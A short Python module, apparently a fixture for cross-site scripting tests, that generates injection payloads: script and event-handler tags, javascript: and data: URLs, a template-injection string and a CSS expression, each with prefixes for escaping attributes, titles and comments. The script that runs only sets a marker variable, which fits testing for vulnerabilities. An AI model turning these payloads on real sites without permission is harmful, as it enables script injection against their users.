"""Texts that run a script if a page takes them for markup, a URL, a style or a template."""

RUN = "window.hit=1"
ELEMENTS = [
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<body onpageshow={RUN}>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<a href=javascript:{RUN} autofocus>", f"<math><mtext><img src=x onerror={RUN}></math>",
]  # fmt: skip
# How an element gets out of where a text usually stands.
BREAKS = ["", '">', "'>", "</title>", "-->"]
OTHERS = [f"javascript:{RUN}", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"data:text/html,<script>parent.{RUN}</script>", f"x:expression({RUN})"]
PAYLOADS = [ahead + element for ahead in BREAKS for element in ELEMENTS] + OTHERS
